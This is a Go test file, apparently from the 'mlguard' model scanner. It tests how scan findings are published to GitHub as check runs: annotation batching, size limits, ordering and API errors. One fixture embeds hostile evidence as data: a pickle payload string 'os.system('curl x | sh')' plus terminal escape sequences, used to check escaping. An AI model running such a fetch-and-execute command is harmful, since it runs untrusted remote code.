package github

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	gh "github.com/google/go-github/v82/github"

	"github.com/mlguard/mlguard/internal/finding"
	"github.com/mlguard/mlguard/internal/githubapi"
	"github.com/mlguard/mlguard/internal/report/markdown"
	"github.com/mlguard/mlguard/internal/report/reporttest"
)

// apiCall is one request the fake GitHub saw.
type apiCall struct {
	Method string          `json:"method"`
	Path   string          `json:"path"`
	Body   json.RawMessage `json:"body,omitempty"`
}

func (c apiCall) String() string { return c.Method + " " + c.Path }

// fakeGitHub records every request and lets reply answer it; n counts the
// requests before this one.
type fakeGitHub struct {
	srv   *httptest.Server
	mu    sync.Mutex
	calls []apiCall
}

func newFakeGitHub(t *testing.T, reply func(n int, r *http.Request, body []byte) (status int, header http.Header, resp string)) (*fakeGitHub, *gh.Client) {
	t.Helper()
	f := &fakeGitHub{}
	f.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if v, a := r.Header.Get("X-GitHub-Api-Version"), r.Header.Get("Authorization"); v != githubapi.APIVersion || a != "Bearer test-token" {
			t.Errorf("%s %s: API version %q, authorization %q", r.Method, r.URL, v, a)
		}
		path := r.URL.Path
		if r.URL.RawQuery != "" {
			path += "?" + r.URL.RawQuery
		}
		f.mu.Lock()
		n := len(f.calls)
		f.calls = append(f.calls, apiCall{Method: r.Method, Path: path, Body: body})
		f.mu.Unlock()
		status, header, resp := reply(n, r, body)
		for k, v := range header {
			w.Header()[k] = v
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, resp)
	}))
	t.Cleanup(f.srv.Close)
	c, err := githubapi.New(githubapi.Options{
		BaseURL: f.srv.URL,
		Token:   "test-token",
		MaxWait: time.Millisecond,
		Sleep:   func(ctx context.Context, _ time.Duration) error { return ctx.Err() },
	})
	if err != nil {
		t.Fatal(err)
	}
	return f, c
}

func (f *fakeGitHub) seen() []apiCall {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]apiCall(nil), f.calls...)
}

// requests is "METHOD path" of each call.
func (f *fakeGitHub) requests() []string {
	var out []string
	for _, c := range f.seen() {
		out = append(out, c.String())
	}
	return out
}

// golden renders the calls as an indented JSON array, bodies as sent
// (no HTML escaping added).
func (f *fakeGitHub) golden(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	enc.SetIndent("", "  ")
	if err := enc.Encode(f.seen()); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

var testRepo = Repo{Owner: "mlguard-test", Name: "models"}

const testSHA = "0123456789abcdef0123456789abcdef01234567"

// checkRunAPI answers check run requests: the create with run 7, updates
// with the run, and the status given for the nth request when set.
func checkRunAPI(fail map[int]int) func(int, *http.Request, []byte) (int, http.Header, string) {
	return func(n int, r *http.Request, _ []byte) (int, http.Header, string) {
		if code, ok := fail[n]; ok {
			return code, nil, fmt.Sprintf(`{"message":"failure %d"}`, code)
		}
		if r.Method == "POST" {
			return 201, nil, `{"id":7,"status":"completed"}`
		}
		return 200, nil, `{"id":7,"status":"completed"}`
	}
}

func TestCheckRunOutput(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name                     string
		result                   *finding.Result
		conclusion, title        string
		batches                  []int
		summaryRows, textRows    int
		textEmpty, summaryCapped bool
	}{
		{name: "empty", result: reporttest.Empty(), conclusion: "success", title: "No findings", textEmpty: true},
		{name: "full", result: reporttest.Full(), conclusion: "failure", title: "6 findings: 1 critical, 2 high, 1 medium, 1 low, 1 info", batches: []int{6}, summaryRows: 6, textEmpty: true},
		{name: "injection", result: injection(), conclusion: "failure", title: "4 findings: 1 critical, 1 high, 1 medium, 1 low", batches: []int{3}, summaryRows: 4, textEmpty: true},
		{name: "pass with findings", result: passing(), conclusion: "success", title: "1 finding: 1 low", batches: []int{1}, summaryRows: 1, textEmpty: true},
		{name: "120 findings", result: many(120), conclusion: "failure", title: "120 findings: 24 critical, 24 high, 24 medium, 24 low, 24 info", batches: []int{50, 50, 20}, summaryRows: 120, textEmpty: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			out := CheckRunOutput(tt.result)
			if out.Conclusion != tt.conclusion || out.Title != tt.title {
				t.Errorf("conclusion %q, title %q; want %q, %q", out.Conclusion, out.Title, tt.conclusion, tt.title)
			}
			var batches []int
			for _, b := range out.Annotations {
				batches = append(batches, len(b))
			}
			if diff := cmp.Diff(tt.batches, batches); diff != "" {
				t.Errorf("batches (-want +got):\n%s", diff)
			}
			if rows := checkMarkdown(t, []byte(out.Summary)); rows != tt.summaryRows {
				t.Errorf("%d rows in the summary, want %d", rows, tt.summaryRows)
			}
			if (out.Text == "") != tt.textEmpty {
				t.Errorf("text %q", out.Text)
			}
		})
	}
}

func passing() *finding.Result {
	r := reporttest.Full()
	r.Findings = r.Findings[len(r.Findings)-1:] // the numpy/object-array finding
	r.Decide(finding.Medium)
	return r
}

func TestCheckAnnotation(t *testing.T) {
	t.Parallel()
	f := finding.New(finding.PickleDangerousGlobal, "pickle calls os.system\n::x::")
	f.Path, f.Member, f.Offset, f.Evidence = "models/a\x1b.pt", "archive/data.pkl", 42, reporttest.HostileEvidence
	long := f
	long.Rule, long.Severity, long.Line = strings.Repeat("r", 300), finding.Info, 9
	long.Member, long.Offset = "", 0
	long.Message = strings.Repeat("m", 10_000)
	long.Evidence = strings.Repeat("\x00", 100_000)
	long.Help = ""
	mid := finding.Finding{Rule: "x/y", Severity: finding.Medium, Path: "p", Offset: 5}

	tests := []struct {
		f    finding.Finding
		want *gh.CheckRunAnnotation
	}{
		{f, &gh.CheckRunAnnotation{
			Path: gh.Ptr(`models/a\x1b.pt`), StartLine: gh.Ptr(1), EndLine: gh.Ptr(1),
			AnnotationLevel: gh.Ptr("failure"), Title: gh.Ptr("pickle/dangerous-global (critical)"),
			Message: gh.Ptr(`pickle calls os.system\n::x:: (in archive/data.pkl at offset 42)` +
				"\nHelp: https://github.com/mlguard/mlguard/blob/main/docs/rules.md#pickle-dangerous-global"),
			RawDetails: gh.Ptr("os.system('curl x | sh')\n" + `\x1b[31mred\x1b[0m \u009b2J\xff\xfe`),
		}},
		{mid, &gh.CheckRunAnnotation{
			Path: gh.Ptr("p"), StartLine: gh.Ptr(1), EndLine: gh.Ptr(1),
			AnnotationLevel: gh.Ptr("warning"), Title: gh.Ptr("x/y (medium)"), Message: gh.Ptr(" (at offset 5)"),
		}},
	}
	for _, tt := range tests {
		if diff := cmp.Diff(tt.want, checkAnnotation(tt.f)); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
	}

	a := checkAnnotation(long)
	if a.GetAnnotationLevel() != "notice" || a.GetStartLine() != 9 || a.GetEndLine() != 9 {
		t.Errorf("level %s, lines %d-%d", a.GetAnnotationLevel(), a.GetStartLine(), a.GetEndLine())
	}
	for name, tt := range map[string]struct {
		s   string
		max int
	}{
		"title": {a.GetTitle(), 255}, "message": {a.GetMessage(), maxAnnotationMessage + 64}, "raw_details": {a.GetRawDetails(), maxRawDetails + 64},
	} {
		if len(tt.s) > tt.max || !strings.Contains(tt.s, "more bytes)") {
			t.Errorf("%s: %d bytes, want at most %d and a clip note", name, len(tt.s), tt.max)
		}
	}
}

// TestCheckRunMostSevereFirst checks that the annotations and rows run from
// critical down.
func TestCheckRunMostSevereFirst(t *testing.T) {
	t.Parallel()
	out := CheckRunOutput(many(120))
	last := "failure"
	order := map[string]int{"failure": 0, "warning": 1, "notice": 2}
	for _, b := range out.Annotations {
		for _, a := range b {
			if order[a.GetAnnotationLevel()] < order[last] {
				t.Fatalf("%s after %s", a.GetAnnotationLevel(), last)
			}
			last = a.GetAnnotationLevel()
		}
	}
	if !strings.HasSuffix(*out.Annotations[0][0].Title, "(critical)") || !strings.HasSuffix(*out.Annotations[2][19].Title, "(info)") {
		t.Errorf("first %s, last %s", *out.Annotations[0][0].Title, *out.Annotations[2][19].Title)
	}
}

// TestCheckRunSummaryCap fills far more than 64 KB: the summary and the
// text each stay within GitHub's limit, rows continue from one to the
// other, and the text says where the rest is.
func TestCheckRunSummaryCap(t *testing.T) {
	t.Parallel()
	r := many(5000)
	for i := range r.Findings {
		r.Findings[i].Evidence = strings.Repeat("é", 300) // two bytes, one rune
	}
	out := CheckRunOutput(r)
	for name, s := range map[string]string{"summary": out.Summary, "text": out.Text} {
		if n := utf8.RuneCountInString(s); n > 65535 || len(s) > 65535 {
			t.Errorf("%s: %d runes, %d bytes", name, n, len(s))
		}
		if len(s) < 60_000 {
			t.Errorf("%s: only %d bytes used", name, len(s))
		}
	}
	inSummary := checkMarkdown(t, []byte(out.Summary))
	inText := checkMarkdown(t, []byte(out.Text))
	if inSummary == 0 || inText == 0 {
		t.Fatalf("%d rows in the summary, %d in the text", inSummary, inText)
	}
	wantNote := fmt.Sprintf("**%d more findings** did not fit in this summary; they are listed below.", 5000-inSummary)
	if !strings.Contains(out.Summary, wantNote) {
		t.Errorf("summary lacks %q", wantNote)
	}
	wantNote = fmt.Sprintf("**%d more findings not shown**: the check run is limited in size. The job summary and the SARIF report list every finding.", 5000-inSummary-inText)
	if !strings.Contains(out.Text, wantNote) {
		t.Errorf("text lacks %q", wantNote)
	}
	if !strings.HasPrefix(out.Text, "## More findings\n\n"+markdown.Plural(5000-inSummary, "finding")) {
		t.Errorf("text starts %q", out.Text[:80])
	}
	if n := annotationCount(out.Annotations); n != MaxCheckAnnotations || len(out.Annotations) != 20 {
		t.Errorf("%d annotations in %d batches", n, len(out.Annotations))
	}
	if last := out.Annotations[19][49]; last.GetAnnotationLevel() != "failure" || !strings.HasSuffix(last.GetTitle(), "(critical)") {
		t.Errorf("the last annotation is %s, %s; want the 1000 critical ones", last.GetAnnotationLevel(), last.GetTitle())
	}
}

func TestPublishCheckRunGolden(t *testing.T) {
	t.Parallel()
	tests := []struct {
		golden string
		result *finding.Result
		opts   CheckRunOptions
	}{
		{"checkrun-full.json", reporttest.Full(), CheckRunOptions{HeadSHA: testSHA, DetailsURL: "https://github.com/mlguard-test/models/actions/runs/42"}},
		{"checkrun-empty.json", reporttest.Empty(), CheckRunOptions{HeadSHA: testSHA}},
		{"checkrun-injection.json", injection(), CheckRunOptions{HeadSHA: testSHA, Name: "mlguard (models)"}},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			t.Parallel()
			api, c := newFakeGitHub(t, checkRunAPI(nil))
			run, err := PublishCheckRun(t.Context(), c, testRepo, tt.result, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			if run.GetID() != 7 {
				t.Errorf("run %v", run)
			}
			reporttest.Golden(t, tt.golden, api.golden(t), *update)
		})
	}
}

func TestPublishCheckRunBatches(t *testing.T) {
	t.Parallel()
	api, c := newFakeGitHub(t, checkRunAPI(nil))
	r := many(120)
	if _, err := PublishCheckRun(t.Context(), c, testRepo, r, CheckRunOptions{HeadSHA: testSHA}); err != nil {
		t.Fatal(err)
	}
	want := []string{
		"POST /repos/mlguard-test/models/check-runs",
		"PATCH /repos/mlguard-test/models/check-runs/7",
		"PATCH /repos/mlguard-test/models/check-runs/7",
	}
	if diff := cmp.Diff(want, api.requests()); diff != "" {
		t.Fatalf("requests (-want +got):\n%s", diff)
	}
	out := CheckRunOutput(r)
	for i, call := range api.seen() {
		var body struct {
			Name       string             `json:"name"`
			HeadSHA    string             `json:"head_sha"`
			Status     string             `json:"status"`
			Conclusion string             `json:"conclusion"`
			Output     *gh.CheckRunOutput `json:"output"`
		}
		if err := json.Unmarshal(call.Body, &body); err != nil {
			t.Fatal(err)
		}
		if body.Name != CheckRunName || body.Output.GetTitle() != out.Title || body.Output.GetSummary() != out.Summary {
			t.Errorf("request %d: name %q, title %q, summary of %d bytes", i, body.Name, body.Output.GetTitle(), len(body.Output.GetSummary()))
		}
		if diff := cmp.Diff(out.Annotations[i], body.Output.Annotations); diff != "" {
			t.Errorf("request %d: annotations (-want +got):\n%s", i, diff)
		}
		first := i == 0
		if (body.HeadSHA == testSHA) != first || (body.Status == "completed") != first || (body.Conclusion == "failure") != first {
			t.Errorf("request %d: head_sha %q, status %q, conclusion %q", i, body.HeadSHA, body.Status, body.Conclusion)
		}
	}
}

func TestPublishCheckRunErrors(t *testing.T) {
	t.Parallel()
	post := "POST /repos/mlguard-test/models/check-runs"
	patch := "PATCH /repos/mlguard-test/models/check-runs/7"
	tests := []struct {
		name     string
		result   *finding.Result
		fail     map[int]int // request index -> status
		status   int
		prefix   string
		run      bool // a run is returned with the error
		requests []string
	}{
		{"403 on create", reporttest.Full(), map[int]int{0: 403}, 403, "creating check run on mlguard-test/models: ", false, []string{post}},
		{"404 on create", reporttest.Full(), map[int]int{0: 404}, 404, "creating check run on mlguard-test/models: ", false, []string{post}},
		{"422 on create", reporttest.Full(), map[int]int{0: 422}, 422, "creating check run on mlguard-test/models: ", false, []string{post}},
		{
			"500 on the second batch", many(120), map[int]int{1: 500, 2: 500, 3: 500, 4: 500}, 500,
			"adding annotations 51 to 100 of 120 to check run 7: ", true, []string{post, patch, patch, patch, patch},
		},
		{"500 then success on create", reporttest.Full(), map[int]int{0: 500}, 0, "", true, []string{post, post}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			api, c := newFakeGitHub(t, checkRunAPI(tt.fail))
			run, err := PublishCheckRun(t.Context(), c, testRepo, tt.result, CheckRunOptions{HeadSHA: testSHA})
			if got := githubapi.StatusCode(err); got != tt.status {
				t.Errorf("status %d (%v), want %d", got, err, tt.status)
			}
			if err != nil && !strings.HasPrefix(err.Error(), tt.prefix) {
				t.Errorf("error %q, want the prefix %q", err, tt.prefix)
			}
			if (run != nil) != tt.run {
				t.Errorf("run %v", run)
			}
			if diff := cmp.Diff(tt.requests, api.requests()); diff != "" {
				t.Errorf("requests (-want +got):\n%s", diff)
			}
		})
	}
}

func TestPublishCheckRunInvalid(t *testing.T) {
	t.Parallel()
	api, c := newFakeGitHub(t, checkRunAPI(nil))
	tests := []struct {
		name string
		c    *gh.Client
		repo Repo
		r    *finding.Result
		opts CheckRunOptions
	}{
		{"nil client", nil, testRepo, reporttest.Full(), CheckRunOptions{HeadSHA: testSHA}},
		{"nil result", c, testRepo, nil, CheckRunOptions{HeadSHA: testSHA}},
		{"no sha", c, testRepo, reporttest.Full(), CheckRunOptions{}},
		{"slash in owner", c, Repo{"a/b", "c"}, reporttest.Full(), CheckRunOptions{HeadSHA: testSHA}},
		{"dot-dot name", c, Repo{"a", ".."}, reporttest.Full(), CheckRunOptions{HeadSHA: testSHA}},
		{"empty", c, Repo{}, reporttest.Full(), CheckRunOptions{HeadSHA: testSHA}},
		{"query", c, Repo{"a", "b?x=1"}, reporttest.Full(), CheckRunOptions{HeadSHA: testSHA}},
	}
	for _, tt := range tests {
		if _, err := PublishCheckRun(t.Context(), tt.c, tt.repo, tt.r, tt.opts); err == nil {
			t.Errorf("%s: no error", tt.name)
		}
	}
	if n := len(api.seen()); n != 0 {
		t.Errorf("%d requests", n)
	}
}
